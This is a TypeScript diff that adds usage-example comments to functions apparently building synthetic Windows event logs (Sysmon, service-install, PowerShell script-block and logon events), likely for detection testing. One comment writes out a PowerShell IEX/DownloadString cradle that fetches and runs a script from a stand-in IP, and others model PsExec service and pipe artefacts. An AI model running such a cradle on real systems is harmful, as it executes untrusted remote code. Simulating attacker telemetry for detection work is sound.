@@ -205,7 +205,10 @@ function lolbinDownload(world: World, host: Host, user: User, r: Random): Step[]
   ];
 }
 
-/** Sysmon 11 by a process. */
+/**
+ * Sysmon 11 by a process.
+ * @example fileCreate(world, host, host.core.svchost, 'C:\\Windows\\System32\\Tasks\\OneDriveSync', Date.now())
+ */
 export function fileCreate(world: World, host: Host, p: Proc, target: string, ms: number): WinlogbeatDoc {
   return world.sysmon(host, 11, {
     ProcessGuid: p.guid, ProcessId: String(p.pid), Image: p.image.path, TargetFilename: target, CreationUtcTime: sysmonTime(ms), User: p.user,
@@ -221,14 +224,20 @@ function httpConnect(world: World, host: Host, p: Proc, server: string, ms: numb
   }, ms);
 }
 
-/** Sysmon 17/18 by a process. */
+/**
+ * Sysmon 17/18 by a process.
+ * @example pipe(world, host, 17, svc, '\\PSEXESVC', Date.now()) // Sysmon 17, EventType 'CreatePipe'
+ */
 export function pipe(world: World, host: Host, eventId: 17 | 18, p: Proc, name: string, ms: number): WinlogbeatDoc {
   return world.sysmon(host, eventId, {
     EventType: eventId === 17 ? 'CreatePipe' : 'ConnectPipe', ProcessGuid: p.guid, ProcessId: String(p.pid), PipeName: name, Image: p.image.path, User: p.user,
   }, ms);
 }
 
-/** System 7045: a service was installed. */
+/**
+ * System 7045: a service was installed.
+ * @example serviceInstall(world, host, { ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' }, Date.now())
+ */
 export function serviceInstall(world: World, host: Host, v: Record<(typeof SERVICE_INSTALL_FIELDS)[number], string>, ms: number): WinlogbeatDoc {
   const message =
     `A service was installed in the system.\n\nService Name:  ${v.ServiceName}\nService File Name:  ${v.ImagePath}\n` +
@@ -239,7 +248,10 @@ export function serviceInstall(world: World, host: Host, v: Record<(typeof SERVI
   }, ms);
 }
 
-/** PowerShell 4104: a script block was logged (warning level when suspicious, as PowerShell does). */
+/**
+ * PowerShell 4104: a script block was logged (warning level when suspicious, as PowerShell does).
+ * @example scriptBlock(world, host, ps, user, "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')", 3, Date.now()) // level 3: warning
+ */
 export function scriptBlock(world: World, host: Host, p: Proc, user: User, text: string, level: number, ms: number): WinlogbeatDoc {
   const id = `${world.random.hex(8)}-${world.random.hex(4)}-${world.random.hex(4)}-${world.random.hex(4)}-${world.random.hex(12)}`.toLowerCase();
   const message = `Creating Scriptblock text (1 of 1):\n${text}\n\nScriptBlock ID: ${id}\nPath: `;
@@ -249,7 +261,10 @@ export function scriptBlock(world: World, host: Host, p: Proc, user: User, text:
   }, ms);
 }
 
-/** The rendered message of a 4624 from its EventData. */
+/**
+ * The rendered message of a 4624 from its EventData.
+ * @example logonMessage({ TargetUserName: 'alice', LogonType: '3', IpAddress: '10.0.0.12' }).split('\n')[0] // => 'An account was successfully logged on.'
+ */
 export function logonMessage(v: Record<string, string>): string {
   return securityMessage('An account was successfully logged on.', [
     ['Subject', [['Security ID', v.SubjectUserSid ?? '-'], ['Account Name', v.SubjectUserName ?? '-'], ['Account Domain', v.SubjectDomainName ?? '-'], ['Logon ID', v.SubjectLogonId ?? '-']]],
